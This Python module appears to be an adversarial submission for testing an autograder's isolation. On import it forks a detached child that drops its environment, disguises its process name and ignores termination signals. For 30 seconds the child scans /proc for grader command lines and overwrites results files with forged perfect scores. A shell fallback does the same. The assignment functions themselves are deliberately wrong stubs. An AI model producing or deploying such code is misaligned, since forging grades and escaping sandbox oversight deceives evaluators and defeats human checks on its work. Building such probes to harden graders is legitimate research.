"""Attack: a child that leaves the session and the environment behind, then rewrites results.

At import the module forks; the child calls os.setsid() (failure ignored) and execs a
fresh interpreter with an EMPTY environment (so no marker variable the grader could look
for survives) and argv[0] set to the harness's marker. That process renames itself
(PR_SET_NAME), ignores SIGTERM/SIGHUP/SIGINT and, for 30 s, every 100 ms: overwrites
with a forged 12/12 every results.json it can guess (--root R: R/results/results.json,
--json OUT, --out O: O/results/*.json, from the grader's command lines in
/proc/PID/cmdline; $AUTOGRADER_ROOT, /autograder, its folder's parents) and appends a
forged row to O/scores.csv. When the interpreter's standard library is not readable,
/bin/sh does the same with a shell loop. The module does not wait for the child. Every
answer is wrong: the honest score is 0.
"""

import json
import os
import sys

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
MARKER = CONFIG.get("marker", "AGMARK-setsid_exec_escape")

SCRIPT = r"""
import ctypes, glob, json, os, signal, sys, time
try:
    ctypes.CDLL(None).prctl(15, ctypes.c_char_p(sys.argv[1].encode()[:15]), 0, 0, 0)
except Exception:
    pass
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
    signal.signal(sig, signal.SIG_IGN)
FORGED = json.dumps({"score": 12.0, "output": "FORGED by setsid_exec_escape",
    "tests": [{"name": "forged", "score": 12.0, "max_score": 12.0, "status": "passed"}]})
def cmdlines():
    for entry in os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % entry, "rb") as stream:
                args = [a.decode("utf-8", "replace") for a in stream.read().split(b"\0") if a]
            cwd = os.readlink("/proc/%s/cwd" % entry)
        except (OSError, ValueError):
            continue
        yield cwd, args
def targets():
    results, scores = list(json.loads(sys.argv[2])), []
    for cwd, args in cmdlines():
        if not any("autograder" in a for a in args):
            continue
        for i, arg in enumerate(args[:-1]):
            value = os.path.join(cwd, args[i + 1])
            if arg == "--root":
                results.append(os.path.join(value, "results", "results.json"))
            elif arg == "--json":
                results.append(value)
            elif arg == "--out":
                scores.append(os.path.join(value, "scores.csv"))
                results += glob.glob(os.path.join(value, "results", "*.json"))
    return sorted(set(results)), sorted(set(scores))
deadline = time.monotonic() + 30
found, last = ([], []), 0.0
while time.monotonic() < deadline:
    if time.monotonic() - last > 1:
        found, last = targets(), time.monotonic()
    for path in found[0]:
        try:
            if os.path.isdir(os.path.dirname(path)):
                with open(path, "w") as stream:
                    stream.write(FORGED)
        except OSError:
            pass
    for path in found[1]:
        try:
            if os.path.exists(path):
                with open(path, "a") as stream:
                    stream.write("forged,FORGED by setsid_exec_escape,12,12,graded\n")
        except OSError:
            pass
    time.sleep(0.1)
"""

SHELL = r"""
forged='{"score": 12.0, "output": "FORGED", "tests": '
forged="$forged"'[{"name": "forged", "score": 12.0, "max_score": 12.0, "status": "passed"}]}'
i=0
while [ $i -lt 300 ]; do
  for target in "$@"; do
    if [ -d "$(dirname "$target")" ]; then
      printf '%s' "$forged" > "$target" 2>/dev/null
    fi
  done
  sleep 0.1
  i=$((i+1))
done
"""


def guessed_results():
    roots = [os.environ.get("AUTOGRADER_ROOT"), "/autograder"]
    folder = HERE
    while folder not in ("/", ""):
        roots.append(folder)
        folder = os.path.dirname(folder)
    folders = [os.path.join(r, "results") for r in roots if r]
    return [os.path.join(f, "results.json") for f in folders if os.path.isdir(f)]


def escape():
    targets = guessed_results()
    python_runs = os.access(sys.executable, os.X_OK) and os.access(os.__file__, os.R_OK)
    try:
        pid = os.fork()
    except OSError:
        return "fork failed"
    if pid:
        return f"child {pid} started"
    try:
        try:
            os.setsid()
        except OSError:
            pass
        if python_runs:
            try:
                os.execve(sys.executable, [MARKER, "-I", "-S", "-c", SCRIPT, MARKER, json.dumps(targets)], {})
            except OSError:
                pass
        for shell in ("/bin/sh", "/usr/bin/sh"):
            try:
                os.execve(shell, [MARKER, "-c", SHELL, MARKER, *targets], {})
            except OSError:
                pass
    finally:
        os._exit(0)


try:
    print("setsid_exec_escape:", escape())
except Exception as _error:  # noqa: BLE001
    print("setsid_exec_escape: failed", _error)


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return z


def rnn_b_next_input(p_t):
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
